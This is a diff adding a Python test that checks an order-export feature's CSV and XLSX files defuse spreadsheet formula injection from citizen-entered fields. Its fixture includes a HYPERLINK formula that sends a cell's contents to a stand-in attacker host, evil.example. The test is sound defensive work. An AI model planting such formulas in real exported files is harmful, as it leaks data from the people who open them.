@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 
 from openpyxl import load_workbook
 
@@ -75,3 +76,40 @@ async def test_order_export_matches_the_order_list(api, clock):
     body, _ = await download(api, "/api/v1/stats/orders.csv?from=2026-11-01&to=2026-12-01", "zjj")
     lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1:]
     assert {line[0] for line in lines} == {numbers["O7"], numbers["O9"]}
+
+
+HOSTILE = {
+    "content": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+    "address": "=1+2",
+    "title": "-2+3 楼道漏水",
+}
+
+
+async def test_exported_cells_never_become_formulas(api, clock):
+    """Citizens write contents, addresses and titles; a supervisor opens the file: a cell
+    starting with = + - @ tab or CR is text in both formats (issue 16)."""
+    number = (await api.register(**HOSTILE))["number"]
+    period = "from=2026-11-01&to=2026-12-01"
+
+    body, _ = await download(api, f"/api/v1/stats/orders.csv?{period}")
+    header, *rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    row = dict(zip(header, next(r for r in rows if r[0] == number), strict=True))
+    assert row["诉求内容"] == "'" + HOSTILE["content"]
+    assert row["地址"] == "'=1+2" and row["标题"] == "'-2+3 楼道漏水"
+    for line in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)
+
+    body, _ = await download(api, f"/api/v1/stats/orders.xlsx?{period}")
+    assert b"<f>" not in _sheet_xml(body)
+    sheet = load_workbook(io.BytesIO(body)).active
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == number)
+    cells = dict(zip(header, row, strict=True))
+    for column, text in (("诉求内容", "content"), ("地址", "address"), ("标题", "title")):
+        cell = cells[column]
+        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", HOSTILE[text], True)
+
+
+def _sheet_xml(body: bytes) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(body)) as book:
+        return b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
